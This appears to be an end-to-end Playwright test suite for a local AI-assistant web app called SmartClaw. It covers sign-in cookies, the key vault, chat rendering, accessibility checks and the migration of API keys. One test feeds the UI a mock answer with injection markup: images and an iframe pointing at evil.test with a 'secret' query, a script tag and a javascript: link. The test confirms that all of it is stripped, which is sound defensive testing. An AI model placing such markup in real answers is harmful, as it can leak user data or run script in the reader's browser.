/** The whole product, as a person meets it: the built daemon, the real OpenClaw, a real Chromium. */
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { chromium, type Browser, type Page } from "playwright-core";
import { type ProviderStandIn, startProviderStandIn } from "@smartclaw/egress/testing";

const run = promisify(execFile);
const releases = process.env["SMARTCLAW_TEST_RELEASES"];
const executablePath = ["/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome"].find(
  existsSync,
);
const skip =
  releases === undefined
    ? "no installed OpenClaw (SMARTCLAW_TEST_RELEASES)"
    : executablePath === undefined
      ? "no Chromium"
      : false;
const cli = fileURLToPath(new URL("../../dist/cli.js", import.meta.url));
const docs = fileURLToPath(new URL("../../../../docs/", import.meta.url));
const axeSource = createRequire(import.meta.url).resolve("axe-core");
const key = "sk-test-canary-0123456789";

let home = "";
let provider: ProviderStandIn;
let browser: Browser;
let page: Page;
const foreign: string[] = [];
const violations: string[] = [];

async function smartclaw(where: string, ...args: string[]): Promise<Record<string, unknown>> {
  // A developer's own keys are nothing for a test to find.
  const environment = Object.entries(process.env).filter(([name]) => !name.endsWith("_API_KEY"));
  const child = run(process.execPath, [cli, ...args, "--json"], {
    env: { ...Object.fromEntries(environment), SMARTCLAW_HOME: where, HOME: where, CI: "1" },
  });
  const { stdout } = await child.catch((error: { stdout: string }) => error);
  return JSON.parse(stdout) as Record<string, unknown>;
}

/** A user's folder with OpenClaw installed; the installation has its own test and would only cost time here. */
function makeHome(): string {
  const folder = mkdtempSync(join(tmpdir(), "sc-page-"));
  const installed = join(releases ?? "", "versions", "openclaw");
  mkdirSync(join(folder, "versions", "openclaw"), { recursive: true });
  for (const version of readdirSync(installed))
    symlinkSync(join(installed, version), join(folder, "versions", "openclaw", version));
  cpSync(join(releases ?? "", "live.json"), join(folder, "live.json"));
  return folder;
}

async function leaveHome(folder: string): Promise<void> {
  await smartclaw(folder, "stop");
  rmSync(folder, { recursive: true, force: true });
}

/** Starts SmartClaw and opens its page in a browser profile of its own, where clicks are counted. */
async function startPage(folder: string): Promise<Page> {
  const { url } = (await smartclaw(folder, "start", "--no-open")) as { url: string };
  const context = await browser.newContext({
    viewport: { width: 1280, height: 800 },
    permissions: ["clipboard-read", "clipboard-write"],
  });
  await context.addInitScript(() => {
    const counter = Object.assign(globalThis, { clicks: 0 });
    addEventListener("click", () => counter.clicks++, true);
  });
  const opened = await context.newPage();
  opened.setDefaultTimeout(15_000);
  opened.on("request", (request) => {
    if (!request.url().startsWith(new URL(url).origin) && !request.url().startsWith("blob:"))
      foreign.push(request.url());
  });
  opened.on("console", (message) => {
    if (/content security policy|violates/i.test(message.text())) violations.push(message.text());
  });
  await opened.goto(url);
  return opened;
}

before(async () => {
  if (skip !== false) return;
  home = makeHome();
  provider = await startProviderStandIn({ key, models: ["standin-1", "standin-2"] });
  browser = await chromium.launch({
    executablePath: executablePath ?? "",
    args: [
      "--no-sandbox",
      "--disable-gpu",
      "--disable-background-networking",
      "--disable-component-update",
      "--disable-sync",
    ],
  });
  page = await startPage(home);
});

after(async () => {
  await browser?.close();
  if (home !== "") await leaveHome(home);
  await provider?.close();
});

/** axe-core on a page as it stands, in both themes and at each width. */
/** A loaded machine shows a new theme or size many frames after it was asked for. */
async function settled(on: Page, theme: "light" | "dark", width: number): Promise<void> {
  await on.waitForFunction(
    (asked) =>
      matchMedia(`(prefers-color-scheme: ${asked.theme})`).matches &&
      innerWidth === asked.width &&
      document.getAnimations().every(({ playState }) => playState !== "running"),
    { theme, width },
  );
  await on.evaluate(async () => {
    for (let frame = 0; frame < 2; frame += 1)
      await new Promise<unknown>((resolve) => requestAnimationFrame(resolve));
  });
}

async function examine(name: string, on = page): Promise<void> {
  for (const theme of ["light", "dark"] as const)
    for (const [width, height] of [
      [1280, 800],
      [1024, 768],
      [390, 844],
    ] as const) {
      await on.emulateMedia({ colorScheme: theme, reducedMotion: "reduce" });
      await on.setViewportSize({ width, height });
      await settled(on, theme, width);
      if (!(await on.evaluate(() => "axe" in globalThis))) {
        // The page's own policy forbids inline scripts; the test's evaluation is not the page's.
        await on.evaluate(readFileSync(axeSource, "utf8"));
      }
      const found = await on.evaluate(async () => {
        const { axe } = globalThis as unknown as {
          axe: { run(): Promise<{ violations: { id: string; nodes: { html: string }[] }[] }> };
        };
        return (await axe.run()).violations.map(
          ({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html.slice(0, 160)).join(" | ")}`,
        );
      });
      assert.deepEqual(found, [], `${name}, ${theme}, ${width}`);
      // Code may; the page and its lists may not.
      const wide = await on.evaluate(() =>
        [...document.querySelectorAll(":not(pre)")]
          .filter((one) => one.matches("html") || getComputedStyle(one).overflowX === "auto")
          .filter(({ scrollWidth, clientWidth }) => scrollWidth > clientWidth)
          .map(({ outerHTML }) => outerHTML.slice(0, 160)),
      );
      assert.deepEqual(wide, [], `${name} scrolls sideways at ${width}`);
      const folder = join(tmpdir(), "smartclaw-screenshots");
      mkdirSync(folder, { recursive: true });
      await on.screenshot({ path: join(folder, `${name}-${theme}-${width}.png`), fullPage: true });
    }
  await on.emulateMedia({ colorScheme: "light" });
  await on.setViewportSize({ width: 1280, height: 800 });
}

test("the login link signs in once and leaves no token in the address", { skip }, async () => {
  await page.getByRole("heading", { name: "Your assistant, on your computer." }).waitFor();
  assert.equal(new URL(page.url()).hash, "");
  const cookies = await page.context().cookies();
  assert.deepEqual(
    cookies.map(({ name, httpOnly, sameSite }) => [name, httpOnly, sameSite]),
    [["smartclaw_session", true, "Strict"]],
  );
});

test("without a keystore the user chooses where the master key lives", { skip }, async () => {
  await page.getByRole("heading", { name: "Where shall the master key live?" }).waitFor();
  await examine("welcome-vault");
  await page.getByLabel("Passphrase", { exact: true }).fill("correct horse battery staple");
  await page.getByRole("button", { name: "Make the vault" }).click();
  await page.getByRole("heading", { name: /paste a key/i }).waitFor();
});

test("a wrong key is told at once; a right one leads to a real answer", { skip }, async () => {
  await page.getByLabel("API key").fill("sk-wrong");
  await page.getByLabel("Provider").selectOption("compatible");
  await page.getByLabel("Address").fill(`${provider.url}/v1`);
  await page.getByRole("button", { name: "Check and begin" }).click();
  await page.getByRole("alert").filter({ hasText: "refused the key" }).waitFor();
  await examine("welcome");
  await page.getByLabel("API key").fill(key);
  await page.getByLabel("Address").fill(`${provider.url}/v1`);
  await page.getByRole("button", { name: "Check and begin" }).click();
  await page.getByLabel("Message", { exact: true }).waitFor({ timeout: 60_000 });
  provider.script({
    kind: "answer",
    text: "Hello! I run on your own computer.\n\n- **Private** by construction\n- `loopback` only\n\n```ts\nconst answer = 42;\n```",
    chunkDelayMs: 15,
  });
  await page.getByRole("button", { name: "Say hello and tell me what you can do." }).click();
  await page.getByText("Private").waitFor({ timeout: 60_000 });
  await page.getByText("const answer = 42;").waitFor();
  await page.getByTestId("running").waitFor({ state: "detached" });
  await examine("chat");
  if (process.env["SMARTCLAW_PICTURES"] === "1") await page.screenshot({ path: join(docs, "chat.png") });
});

test("the answer's markup cannot reach out, run or pose as ours", { skip }, async () => {
  provider.script({
    kind: "answer",
    text: 'Look ![pixel](http://evil.test/p.png?secret) <img src="http://evil.test/q.png"> <script>window.hacked=1</script> [click](javascript:window.hacked=1) [fine](https://example.org/x) <iframe src="http://evil.test"></iframe> done-marker',
  });
  await send("show me");
  await page.getByText("done-marker").waitFor({ timeout: 30_000 });
  const last = page.getByRole("article").last();
  assert.equal(await last.locator("img, iframe, script").count(), 0);
  assert.equal(
    await last.getByRole("link", { name: "fine" }).getAttribute("rel"),
    "noopener noreferrer nofollow",
  );
  assert.equal(await last.locator('a[href^="javascript"]').count(), 0);
  assert.equal(await page.evaluate(() => "hacked" in globalThis), false);
});

test(
  "code has its language, copies without a line's end, and scrolls in its own block",
  { skip },
  async () => {
    const command = `npm install ${"a-package-with-a-long-name ".repeat(20)}`.trim();
    provider.script({ kind: "answer", text: `Run this:\n\n\`\`\`sh\n${command}\n\`\`\`\n` });
    await send("what shall I run?");
    const block = page.getByRole("figure", { name: "sh" });
    await block.waitFor({ timeout: 30_000 });
    await page.getByTestId("running").waitFor({ state: "detached" });
    await block.getByRole("button", { name: "Copy code" }).click();
    await block.getByRole("button", { name: "Copied" }).waitFor();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), command);
    await page.getByTestId("running").waitFor({ state: "detached" });
    await examine("chat-code");
    await page.setViewportSize({ width: 390, height: 500 });
    await settled(page, "light", 390);
    const below = await page
      .getByRole("region", { name: "Messages" })
      .evaluate(({ scrollHeight, scrollTop, clientHeight }) => scrollHeight - scrollTop - clientHeight);
    assert.ok(below <= 1, "the end stays in view on a smaller screen");
    const { scrollHeight, clientHeight } = await page.evaluate(() => {
      const { documentElement } = document;
      return { scrollHeight: documentElement.scrollHeight, clientHeight: documentElement.clientHeight };
    });
    assert.equal(scrollHeight, clientHeight, "only the messages scroll, not the page around them");
    await page.setViewportSize({ width: 1280, height: 800 });
  },
);

test("stopping keeps what is there; reloading neither loses nor doubles", { skip }, async () => {
  provider.script({ kind: "answer", text: "word ".repeat(400), chunkDelayMs: 25 });
  await send("tell a long story");
  await page.getByTestId("running").getByText("word word").waitFor({ timeout: 30_000 });
  await page.keyboard.press("Escape");
  await page.getByTestId("running").waitFor({ state: "detached", timeout: 15_000 });
  const before = await page.getByRole("article").count();
  await page.reload();
  await page.getByText("tell a long story").waitFor();
  await page.getByText("done-marker").waitFor();
  assert.equal(await page.getByText("tell a long story").count(), 1);
  assert.equal(await page.getByRole("article").count(), before);
});

test("a fault of the provider is one sentence in the conversation", { skip }, async () => {
  provider.fallback(() => ({ kind: "status", status: 401, body: "{}" }));
  const started = Date.now();
  await send("and now?");
  await page
    .getByText(/refused the key/)
    .first()
    .waitFor({ timeout: 30_000 });
  provider.fallback(() => ({ kind: "answer", text: "ready" }));
  assert.ok(Date.now() - started < 15_000);
});

test("on a phone a conversation is renamed and deleted too", { skip }, async () => {
  const list = page.getByRole("dialog", { name: "Conversations" });
  const openList = page.getByRole("button", { name: /^Conversation:/ });
  const kept = new URL(page.url()).pathname;
  await page.setViewportSize({ width: 390, height: 844 });
  await page.getByRole("button", { name: "New conversation", exact: true }).click();
  await page.getByText("What shall we do?").waitFor();
  await openList.click();
  await list.getByRole("listitem").nth(1).waitFor();
  await examine("conversations");
  await page.setViewportSize({ width: 390, height: 844 });
  await list
    .locator("li", { has: page.locator("[aria-current]") })
    .getByLabel(/^Rename/)
    .click();
  await page.getByLabel("Title").fill("Plans for May");
  await page.keyboard.press("Enter");
  await list.getByRole("button", { name: "Delete Plans for May" }).click();
  await page.getByRole("button", { name: "Delete", exact: true }).click();
  await list.getByText("Plans for May").waitFor({ state: "detached" });
  await list.getByRole("button", { name: "Close" }).click();
  await page.getByText("done-marker").waitFor();
  assert.equal(new URL(page.url()).pathname, kept);
  await page.setViewportSize({ width: 1280, height: 800 });
  await page.getByRole("navigation", { name: "Conversations" }).getByRole("link").focus();
  await page.keyboard.press("Tab");
  await page.keyboard.press("Enter");
  await page.getByLabel("Title").waitFor();
  await page.keyboard.press("Escape");
});

for (const [name, path, heading] of [
  ["keys", "/keys", "Keys"],
  ["network", "/network", "Network"],
  ["status", "/status", "Status"],
  ["settings", "/settings", "Settings"],
] as const)
  test(`${name}: no accessibility fault in any theme or width`, { skip }, async () => {
    await page.goto(new URL(path, page.url()).href);
    await page.getByRole("heading", { name: heading, level: 1 }).waitFor();
    await page.waitForTimeout(400);
    await examine(name);
  });

test("the network page shows the model request and what was refused", { skip }, async () => {
  await page.goto(new URL("/network", page.url()).href);
  await page.getByText("chat with").first().waitFor();
  const port = page.getByText(`:${provider.port}`, { exact: true }).first();
  assert.equal(
    await port.evaluate((element) => element.getClientRects().length),
    1,
    "a port is broken in two",
  );
  await page.getByLabel("Result").selectOption("refused");
  await page
    .getByText(/not on your list|past the proxies|No connections/)
    .first()
    .waitFor();
});

test("keys can be tested, a recovery phrase made, and all of it by keyboard", { skip }, async () => {
  await page.goto(new URL("/keys", page.url()).href);
  await page.getByRole("button", { name: /^Test / }).click();
  await page.getByText(/It works: standin-1/).waitFor();
  await page.getByRole("button", { name: "Make a recovery phrase" }).focus();
  await page.keyboard.press("Enter");
  await page.getByRole("dialog").getByRole("listitem").nth(23).waitFor();
  await page.keyboard.press("Escape");
  await page.getByRole("dialog").waitFor({ state: "detached" });
  await page.getByRole("button", { name: /^Delete / }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Cancel" }).click();
});

test(
  "keys of an OpenClaw that was here before move into the vault; three clicks to an answer",
  { skip },
  async (t) => {
    const earlier = makeHome();
    t.after(() => leaveHome(earlier));
    const config = join(earlier, ".openclaw", "openclaw.json");
    const server = { baseUrl: `${provider.url}/v1`, api: "openai-completions" };
    const oldKey = "sk-old-canary-0123456789";
    const providers = {
      mine: { ...server, apiKey: key, models: [{ id: "standin-1" }] },
      old: { ...server, apiKey: oldKey, models: [{ id: "standin-2" }] },
    };
    mkdirSync(join(config, ".."));
    for (const file of [config, `${config}.bak`])
      writeFileSync(file, `// my own comment\n${JSON.stringify({ models: { providers } }, null, 2)}\n`);
    const holds = (text: string): boolean[] =>
      [config, `${config}.bak`].map((file) => readFileSync(file, "utf8").includes(text));

    const first = await startPage(earlier);
    await first.getByLabel("Passphrase", { exact: true }).fill("correct horse battery staple");
    await first.getByRole("button", { name: "Make the vault" }).click();
    const use = first.getByRole("button", { name: "Use mine key in ~/.openclaw/openclaw.json" });
    await use.waitFor();
    await examine("welcome-found", first);
    assert.deepEqual(holds(key), [true, true], "nothing is changed by looking");
    await use.click();
    await first.getByText("It was removed from ~/.openclaw/openclaw.json.").waitFor();
    assert.deepEqual(holds(key), [false, false]);
    assert.deepEqual(holds(oldKey), [true, true]);
    const suggestion = first.getByRole("button", { name: "Say hello and tell me what you can do." });
    await suggestion.waitFor({ timeout: 60_000 });
    await examine("welcome-moved", first);
    await suggestion.click();
    await first
      .getByRole("article", { name: /^Answer at/ })
      .getByText("ready")
      .waitFor({ timeout: 60_000 });
    assert.equal(await first.evaluate(() => (globalThis as unknown as { clicks: number }).clicks), 3);

    await first.getByText("1 more key on this computer lies in the clear.").waitFor();
    await first.getByRole("link", { name: "Go to Keys" }).click();
    await first.getByRole("button", { name: "Look on this computer" }).click();
    await first.getByRole("button", { name: "Move them into the vault" }).click();
    await first.getByText("moved into the vault and removed from here").waitFor();
    await first.getByText("blanked in this backup").waitFor();
    await examine("keys-moved", first);
    assert.deepEqual(holds(oldKey), [false, false]);
    assert.deepEqual(holds("my own comment"), [true, true]);
  },
);

test("nothing was loaded from anywhere else and no policy was broken", { skip }, () => {
  assert.deepEqual(foreign, []);
  assert.deepEqual(violations, []);
});

async function send(text: string): Promise<void> {
  const field = page.getByLabel("Message", { exact: true });
  await field.fill(text);
  await field.press("Enter");
}
